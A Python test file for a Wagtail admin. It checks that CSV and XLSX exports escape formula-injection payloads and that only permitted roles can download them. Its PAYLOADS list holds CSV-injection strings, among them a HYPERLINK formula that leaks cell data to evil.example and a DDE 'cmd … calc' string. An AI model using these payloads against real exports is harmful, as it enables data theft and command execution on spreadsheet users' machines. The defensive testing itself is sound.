"""Every CSV and XLSX download of the admin's listings, with what a hostile visitor could have typed in each column.

The listings are found in the URL configuration, not named here: every view
that exports (Wagtail's `SpreadsheetExportMixin` with a `list_export`) which
the project configured, through a viewset or a view class of its own. A new
export is walked as soon as it exists, and fails here until `ROWS` can make
a row of its model. Wagtail's own reports export columns Wagtail chooses:
they are walked separately, with a page whose title an editor made hostile.

Who may download follows the role matrix (`tests/security/role_matrix.py`)
for the listing's address: the roles it lets in get every row, with no cell
a spreadsheet would run as a formula; the others get no file.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from collections.abc import Callable
from dataclasses import dataclass
from types import SimpleNamespace

import pytest
from django.core.exceptions import FieldDoesNotExist
from django.db import models
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from initiatives.models import ExpressionOfInterest, Financier, Registration
from portal.admin_exports import SafeExportMixin
from tests.initiatives.eod.factories import EodCatalogPageFactory, EodProgrammePageFactory
from tests.initiatives.events.factories import EventIndexPageFactory, EventPageFactory, RegistrationFactory
from tests.initiatives.financiers.factories import FinancierFactory, InterestFactory, in_group
from tests.members.factories import RepresentativeFactory, UserFactory
from tests.portal.factories import HomePageFactory
from tests.security.role_matrix import ALLOWED, LOGIN, ROLES, Route, rule_for, url_routes

pytestmark = pytest.mark.django_db

CSV_TYPE = "text/csv"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# What a spreadsheet runs as a formula at the start of a cell (OWASP, CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters a worksheet cannot hold (the XLSX drops them).
UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
NUMBER = re.compile(r"-?\d+(\.\d+)?")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('owned')</script>",
    "=" + "A very long note. " * 250,
    "=1+1\x1b with a control character",
]


def hostile_email(payload: str, n: int) -> str:
    """An address that starts like the payload: a local part may hold "=", "+", "-" and more."""
    start = re.sub(r"[^=+\-@\w]", "", payload[:12]) or "x"
    return f"{start}{n}@evil.example"


# --- Making a hostile row of each exported model ------------------------------------------------


@dataclass
class Row:
    instance: models.Model
    known: dict[str, str]  # columns whose value the maker set, beyond the text fields filled in for it


def registration_row(w: SimpleNamespace, payload: str, n: int) -> Row:
    event = EventPageFactory(parent=w.event_index, title=payload[:255], slug=f"hostile-{n}")
    return Row(RegistrationFactory(event=event), {"event": event.title})


def financier_row(w: SimpleNamespace, payload: str, n: int) -> Row:
    email = hostile_email(payload, n)
    return Row(FinancierFactory(user__email=email), {"email": email})


def interest_row(w: SimpleNamespace, payload: str, n: int) -> Row:
    email = hostile_email(payload, n)
    financier = FinancierFactory(full_name=payload[:150], organisation=payload[:200], user__email=email)
    interest = InterestFactory(financier=financier, programme=w.programme)
    return Row(interest, {"financier": str(financier), "financier.email": email})


ROWS: dict[type[models.Model], Callable[[SimpleNamespace, str, int], Row]] = {
    Registration: registration_row,
    Financier: financier_row,
    ExpressionOfInterest: interest_row,
}


def fill_text_columns(row: Row, list_export: list[str], payload: str) -> dict[str, str]:
    """Every exported column that is a text field, on the row or an object it leads to, holds the payload."""
    filled, changed = {}, []
    for column in list_export:
        *hops, name = column.split(".")
        obj = row.instance
        for hop in hops:
            obj = getattr(obj, hop)
        try:
            field = obj._meta.get_field(name)
        except (AttributeError, FieldDoesNotExist):
            continue  # a property or a method: its maker said what it holds
        if isinstance(field, models.CharField | models.TextField) and not field.choices:
            value = payload[: field.max_length] if field.max_length else payload
            setattr(obj, name, value)
            filled[column] = value
            changed.append(obj)
    for obj in {id(obj): obj for obj in changed}.values():
        obj.save()
    return filled


# --- Finding the exports ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Export:
    route: Route
    view_class: type
    model: type[models.Model]
    list_export: tuple[str, ...]

    @property
    def url(self) -> str:
        return "/" + self.route.route


def project_exports() -> list[Export]:
    found = []
    for route in url_routes():
        view = route.pattern.callback
        view_class = getattr(view, "view_class", None)
        if view_class is None or not issubclass(view_class, SpreadsheetExportMixin):
            continue
        initkwargs = getattr(view, "view_initkwargs", {})
        # Set by a viewset (it passes list_export to the view) or by a view class the project wrote.
        configured = "list_export" in initkwargs or not view_class.__module__.startswith("wagtail.")
        list_export = initkwargs.get("list_export", view_class.list_export)
        if configured and list_export:
            model = initkwargs.get("model", getattr(view_class, "model", None))
            found.append(Export(route, view_class, model, tuple(list_export)))
    return found


# --- Reading the files -----------------------------------------------------------------------------


def csv_rows(response, with_bom: bool = True) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    if with_bom:
        assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows(response) -> list[list]:
    content = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(content)).active
    rows = []
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", f"a formula in {cell.coordinate}: {cell.value!r}"
        rows.append([cell.value for cell in cells])
    return rows


def as_csv(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def as_xlsx(value: str) -> str:
    # A text cell never runs: the text is kept as typed, less what a worksheet cannot hold.
    return UNWRITABLE.sub("", value)


def holds(rows: list[list], expected: dict[int, str]) -> bool:
    return any(all(index < len(row) and row[index] == value for index, value in expected.items()) for row in rows)


def no_formula_starts(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]


# --- The walk ----------------------------------------------------------------------------------------


def build_world() -> SimpleNamespace:
    w = SimpleNamespace()
    w.home = HomePageFactory()
    w.event_index = EventIndexPageFactory(parent=w.home)
    w.programme = EodProgrammePageFactory(parent=EodCatalogPageFactory(parent=w.home))
    w.users = {
        "anonymous": None,
        "representative": RepresentativeFactory().user,
        "financier": FinancierFactory().user,
        "editor": in_group("Editors"),
        "moderator": in_group("Moderators"),
        "superuser": UserFactory(is_staff=True, is_superuser=True),
    }
    return w


def client_for(user) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def test_the_exports_found_include_every_listing_that_downloads():
    exports = project_exports()

    routes = {export.route.route for export in exports}
    assert {"admin/financiers/", "admin/expressions-of-interest/", "admin/registrations/"} <= routes
    for export in exports:
        assert issubclass(export.view_class, SafeExportMixin), (
            f"{export.url}: base its index view on portal.admin_exports.ExportIndexView"
        )


def test_every_admin_export_holds_every_row_and_no_cell_runs_as_a_formula():
    exports = project_exports()
    assert exports
    w = build_world()
    expected_rows: dict[type, list[dict[str, str]]] = {}
    for export in exports:
        if export.model in expected_rows:
            continue
        maker = ROWS.get(export.model)
        assert maker is not None, f"{export.url} exports {export.model}: add a maker of a hostile row to ROWS"
        expected_rows[export.model] = []
        for n, payload in enumerate(PAYLOADS):
            row = maker(w, payload, n)
            expected_rows[export.model].append(
                {**fill_text_columns(row, list(export.list_export), payload), **row.known}
            )

    for export in exports:
        rule = rule_for(export.route.route)
        assert rule is not None, f"{export.url}: no row in the role matrix"
        allowed = [role for role in ROLES if rule.access[role] == ALLOWED]
        assert allowed, f"{export.url}: nobody may download"
        clients = {role: client_for(w.users[role]) for role in ROLES}

        # The least trusted role that may download gets it all.
        client = clients[allowed[0]]
        csv_response = client.get(export.url, {"export": "csv"})
        xlsx_response = client.get(export.url, {"export": "xlsx"})
        assert csv_response.status_code == 200, export.url
        assert xlsx_response.status_code == 200, export.url
        assert csv_response["Content-Type"].startswith(CSV_TYPE)
        assert xlsx_response["Content-Type"] == XLSX_TYPE
        assert "attachment" in csv_response["Content-Disposition"]
        assert "attachment" in xlsx_response["Content-Disposition"]

        from_csv, from_xlsx = csv_rows(csv_response), xlsx_rows(xlsx_response)
        assert no_formula_starts(from_csv) == [], export.url
        columns = {column: index for index, column in enumerate(export.list_export)}
        assert len(from_csv[0]) == len(from_xlsx[0]) == len(columns)
        email_columns = {column for column in columns if column.split(".")[-1] == "email"}
        for expected in expected_rows[export.model]:
            assert email_columns <= expected.keys(), f"{export.url}: the hostile row must fill {email_columns}"
            in_csv = {columns[c]: as_csv(value) for c, value in expected.items()}
            in_xlsx = {columns[c]: as_xlsx(value) for c, value in expected.items()}
            assert holds(from_csv[1:], in_csv), f"{export.url}: CSV lacks the row {in_csv}"
            assert holds(from_xlsx[1:], in_xlsx), f"{export.url}: XLSX lacks the row {in_xlsx}"

        # The other roles it lets in get the file too; the rest get none.
        for role in ROLES:
            if rule.access[role] == ALLOWED:
                response = clients[role].get(export.url, {"export": "xlsx"})
                assert response.status_code == 200 and response["Content-Type"] == XLSX_TYPE, (export.url, role)
                continue
            for export_format in ("csv", "xlsx"):
                response = clients[role].get(export.url, {"export": export_format})
                assert "Content-Disposition" not in response, f"{export.url} gave {role} a {export_format}"
                if rule.access[role] == LOGIN:
                    assert response.status_code == 302 and response["Location"].startswith("/admin/login/")
                else:
                    assert response.status_code in (302, 403), f"{export.url} as {role}: {response.status_code}"


def test_editors_may_download_registrations_but_not_financiers_or_their_interests():
    editor = client_for(in_group("Editors"))

    for url in ("/admin/financiers/", "/admin/expressions-of-interest/"):
        for export_format in ("csv", "xlsx"):
            response = editor.get(url, {"export": export_format})
            assert response.status_code == 403
            assert "Content-Disposition" not in response
    assert editor.get("/admin/registrations/", {"export": "csv"}).status_code == 200


# Wagtail's own reports: the columns are Wagtail's, the values an editor's page titles.
WAGTAIL_REPORTS = ["/admin/reports/aging-pages/", "/admin/reports/locked/", "/admin/reports/site-history/"]


def test_wagtails_own_reports_neutralise_formulas_in_page_titles():
    home = HomePageFactory()
    superuser = UserFactory(is_superuser=True, is_staff=True)
    titles = [payload[:255] for payload in PAYLOADS]
    for n, title in enumerate(titles):
        page = EventPageFactory(parent=EventIndexPageFactory(parent=home, slug=f"events-{n}"), title=title)
        page.save_revision(user=superuser, log_action=True).publish(user=superuser)
        page.locked, page.locked_by = True, superuser
        # Old enough for the aging-pages report's default filter.
        page.last_published_at = timezone.now() - datetime.timedelta(days=400)
        page.save()
    client = client_for(superuser)

    for url in WAGTAIL_REPORTS:
        csv_body = csv_rows(client.get(url, {"export": "csv"}), with_bom=False)
        cells = [cell for row in csv_body[1:] for cell in row]
        assert no_formula_starts(csv_body) == [], url
        assert any(cell == as_csv(titles[0]) for cell in cells), f"{url} lost the hostile title"
        xlsx_body = xlsx_rows(client.get(url, {"export": "xlsx"}))  # no cell reads back as a formula
        assert any(cell == as_xlsx(titles[0]) for row in xlsx_body[1:] for cell in row), url
